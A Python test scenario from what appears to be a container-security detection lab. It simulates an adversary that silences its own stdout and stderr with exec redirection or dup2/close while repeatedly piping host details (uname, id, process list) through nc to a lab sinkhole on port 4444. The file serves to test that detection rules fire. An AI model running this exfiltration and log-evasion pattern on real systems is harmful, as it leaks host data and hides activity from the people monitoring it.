"""A payload sends its own stdout and stderr to /dev/null: the container log stays empty."""

from __future__ import annotations

from lab import Lab, LabError, Mount, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.variants import Dimension

# Where the silenced output goes: nowhere the engine's log driver reads, whichever way it is done.
TARGETS = {"devnull": "/dev/null", "file": "/tmp/.worker.log", "closed": None, "tmpfs": "/run/work/.worker.log",
           "volume": "/data/.worker.log"}
BANNER = "starting worker"


class StdoutDevNull(Scenario):
    id = "docker.logging.stdout-devnull"
    title = "Payload redirects its stdout and stderr to /dev/null inside the container"
    kind = Kind.ADVERSARY
    techniques = ("T1562.006", "T1610")
    backends = ("docker",)
    expect = Expectation(fires=("stowaway.docker.output-discarded",), within_s=20, may_fire={
        "stowaway.net.process-egress-not-allowlisted":
            "Its payload really sends host details with nc to the sinkhole's port 4444 on the lab internet, "
            "outside the egress allowlist.",
        "stowaway.net.egress-not-allowlisted":
            "The same connection really leaves the container for the sinkhole on the lab internet, seen on the "
            "wire, outside the egress allowlist.",
        "stowaway.analytic.net-beacon":
            "It really calls the same outside endpoint every two seconds: a beacon, seen once enough calls "
            "have been made.",
    })
    twin = "docker.logging.foreground-web"
    tags = ("logging", "defense-evasion")
    dimensions = (
        Dimension("target", tuple(TARGETS), doc="where stdout and stderr are sent: /dev/null, a file of its own in "
                  "the container's overlay (diverted, not discarded), closed altogether, a file on a tmpfs "
                  "mount, or a file on a volume"),
        Dimension("when", ("start", "later"), doc="silenced before anything is printed, or after the worker has "
                  "logged a few normal lines for three seconds"),
        Dimension("how", ("shell", "python"), doc="a shell's exec redirection, or the program's own dup2/close "
                  "system calls from Python"),
    )
    description = (
        "Deploys a container whose entrypoint shell first runs `exec >/dev/null 2>&1`, then sends "
        "host details to the sinkhole's port 4444 every two seconds with verbose output that now "
        "goes nowhere. The scenario checks the sinkhole received the data and that the engine's "
        "log of the container holds nothing of it. Variants send the output to a file of its own or "
        "close it, silence it only after logging normally for a while, or do it from Python with "
        "dup2/close instead of a shell, or write to a file on a tmpfs mount or a volume (every variant "
        "has both mounts)."
    )

    def detonate(self, lab: Lab) -> None:
        target, when, how = (self.variant[k] for k in ("target", "when", "how"))
        send = f"{{ uname -a; id; ps -eo pid,comm; }} | nc -v -w 2 -q 1 {lab.sinkhole.address} 4444"
        command = _shell(send, str(target), when == "later") if how == "shell" else \
            _python(send, str(target), when == "later")
        lab.action("deploy a payload that silences its own output")
        mounts = (Mount(source="", target="/run/work", type="tmpfs"),
                  Mount(source=lab.create_volume(lab.name("worker-data")), target="/data", type="volume"))
        worker = lab.deploy(WorkloadSpec(role="worker", networks=("lan", "inet"), command=command, mounts=mounts))
        lab.wait_for(lambda: bool(lab.sinkhole_records(peer=worker.addresses["inet"])), timeout=20,
                     what="the payload's data to reach the sinkhole")
        logs = lab.logs(worker)
        # Whatever it printed before silencing itself is there; nothing of the payload's own output is.
        expected = BANNER if when == "later" else ""
        if logs.replace(BANNER, "").strip() or (expected and expected not in logs):
            raise LabError(f"the container log is not what the silenced payload leaves: {logs[:200]!r}")


def _shell(send: str, target: str, later: bool) -> tuple[str, ...]:
    path = TARGETS[target]
    silence = f"exec >>{path} 2>&1" if path else "exec >&- 2>&-"
    banner = f"for i in 1 2 3; do echo {BANNER}; sleep 1; done; " if later else ""
    return ("sh", "-c", f"{banner}{silence}; while true; do {send}; sleep 2; done")


def _python(send: str, target: str, later: bool) -> tuple[str, ...]:
    path = TARGETS[target]
    silence = (f"fd = os.open({path!r}, os.O_WRONLY | os.O_CREAT | os.O_APPEND); os.dup2(fd, 1); os.dup2(fd, 2)"
               if path else "os.close(1); os.close(2)")
    banner = f"for _ in range(3): print({BANNER!r}, flush=True); time.sleep(1)\n" if later else ""
    return ("python3", "-c", f"import os, subprocess, time\n{banner}{silence}\n"
                             f"while True:\n    subprocess.run(['sh', '-c', {send!r}]); time.sleep(2)\n")
